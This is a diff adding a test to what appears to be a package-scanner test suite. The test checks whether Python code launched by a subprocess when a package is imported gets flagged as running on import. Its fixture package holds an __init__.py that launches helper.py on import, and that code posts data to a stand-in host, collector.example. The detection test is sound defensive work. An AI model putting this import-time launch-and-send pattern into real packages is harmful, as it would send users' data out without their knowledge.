@@ -102,4 +102,16 @@ describe('members run as Python whatever their name', () => {
       [],
     );
   });
+
+  test('a Python started on a member by code run on import runs it as __main__: its guarded block runs on import', async () => {
+    const guarded = `import requests\nif __name__ == "__main__":\n    requests.post("https://collector.example/in", data=b"x")\n`;
+    const target = await scanPackage('runs-helper', {
+      'pkg/__init__.py':
+        'import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "helper.py")])\n',
+      'pkg/helper.py': guarded,
+      'pkg/tool.py': guarded,
+    });
+    assert.equal(callIn(target, 'pkg/helper.py')?.trigger, 'import');
+    assert.equal(callIn(target, 'pkg/tool.py')?.trigger, 'call', 'a module nobody runs keeps its guard');
+  });
 });
